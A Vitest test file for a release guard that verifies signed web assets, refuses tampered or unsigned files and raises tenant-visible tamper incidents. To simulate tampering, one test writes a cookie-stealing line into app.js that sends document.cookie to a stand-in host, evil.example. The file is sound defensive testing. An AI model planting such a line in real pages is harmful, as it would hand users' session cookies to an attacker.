import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { cleanupTestParley, dropSchemas, login, makeAgent, makeTenant, startTestParley, TestSocket, type TestParley } from '../testing/testParley.js';
import { signedFixture, type Fixture } from './releaseFixture.js';
import { readLog } from './release.js';

describe('release guard (continuous re-verification)', () => {
  let t: TestParley;
  let f: Fixture;
  afterEach(async () => {
    await cleanupTestParley(t);
    rmSync(f.root, { recursive: true, force: true });
  });
  afterAll(dropSchemas);

  const start = async (recheckMs = 200) => {
    f = signedFixture();
    t = await startTestParley({ listen: true, releaseGuard: true, env: { PUBLIC_DIR: f.publicDir, RELEASE_PUBLIC_KEY: f.trusted.publicKey, RELEASE_RECHECK_MS: String(recheckMs) } });
  };

  it('serves the signed files and the release log at a well-known URL', async () => {
    await start();
    const res = await t.app.inject({ url: '/console/assets/app.js' });
    expect(res.statusCode).toBe(200);
    const log = await t.app.inject({ url: '/.well-known/parley-releases.json' });
    expect(log.statusCode).toBe(200);
    expect(log.headers['access-control-allow-origin']).toBe('*');
    expect(log.json()).toEqual(readLog(f.logPath));
  });

  it('a file changed on disk is refused at once and raises one release.tamper incident, seen by every tenant', async () => {
    await start(200);
    const a = await makeTenant(t);
    const b = await makeTenant(t);
    const agentA = await makeAgent(t, a, 'admin');
    const agentB = await makeAgent(t, b);
    const sessA = await login(t, agentA);
    const sessB = await login(t, agentB);
    const socket = await TestSocket.open(t, '/ws/agent', { cookie: sessA.cookie });
    socket.send({ type: 'hello', lastSeqs: {} });
    await socket.next('ready');

    const changedAt = Date.now();
    writeFileSync(join(f.publicDir, 'console/assets/app.js'), 'fetch("https://evil.example/?c="+document.cookie)');
    const frame = await socket.next('incident', 5000);
    const elapsed = Date.now() - changedAt;
    expect(elapsed).toBeLessThan(60_000);
    expect(frame.incident).toMatchObject({ kind: 'release.tamper', severity: 'critical', tenantId: null, details: { path: 'console/assets/app.js', problem: 'changed' } });
    console.info(`release.tamper incident ${elapsed} ms after the change on disk (recheck every 200 ms)`);

    const served = await t.app.inject({ url: '/console/assets/app.js' });
    expect(served.statusCode).toBe(503);
    expect(served.body).not.toContain('evil.example');

    for (const s of [sessA, sessB]) {
      const list = await t.app.inject({ url: '/api/incidents', headers: { cookie: s.cookie } });
      expect(list.statusCode).toBe(200);
      expect(list.json().items).toEqual([expect.objectContaining({ id: frame.incident.id, kind: 'release.tamper' })]);
    }
    const audit = await t.ctx.storage.db.selectFrom('audit_log').selectAll().where('action', '=', 'incident.raised').execute();
    expect(audit.map((e) => e.resource_id)).toEqual([frame.incident.id]);

    // It stays one incident while the condition persists.
    await new Promise((r) => setTimeout(r, 600));
    const all = await t.ctx.storage.db.selectFrom('incidents').selectAll().execute();
    expect(all).toHaveLength(1);
    socket.close();
  });

  it('an unsigned release is refused and raises an incident at boot', async () => {
    f = signedFixture();
    rmSync(join(f.publicDir, 'release.json'));
    t = await startTestParley({ listen: true, releaseGuard: true, env: { PUBLIC_DIR: f.publicDir, RELEASE_PUBLIC_KEY: f.trusted.publicKey } });
    expect((await t.app.inject({ url: '/console/' })).statusCode).toBe(503);
    await t.releaseGuard.tick();
    const incidents = await t.ctx.storage.db.selectFrom('incidents').selectAll().execute();
    expect(incidents).toMatchObject([{ kind: 'release.tamper', tenant_id: null }]);
    expect(incidents[0]!.summary).toContain('not signed');
  });
});

describe('GET /api/incidents', () => {
  let t: TestParley;
  afterEach(async () => cleanupTestParley(t));

  it("shows a tenant its own and platform-wide incidents, never another tenant's", async () => {
    t = await startTestParley();
    const { raiseIncident } = await import('./incidents.js');
    const a = await makeTenant(t);
    const b = await makeTenant(t);
    await raiseIncident(t.ctx, { tenantId: a.id, kind: 'csp.new_destination', severity: 'high', summary: 'A', details: {}, fingerprint: 'a' });
    await raiseIncident(t.ctx, { tenantId: b.id, kind: 'csp.new_destination', severity: 'high', summary: 'B', details: {}, fingerprint: 'b' });
    await raiseIncident(t.ctx, { tenantId: null, kind: 'release.tamper', severity: 'critical', summary: 'ALL', details: {}, fingerprint: 'all' });
    const sess = await login(t, await makeAgent(t, a));
    const res = await t.app.inject({ url: '/api/incidents', headers: { cookie: sess.cookie } });
    expect(res.json().items.map((i: { summary: string }) => i.summary).sort()).toEqual(['A', 'ALL']);
    expect((await t.app.inject({ url: '/api/incidents' })).statusCode).toBe(401);
  });
});
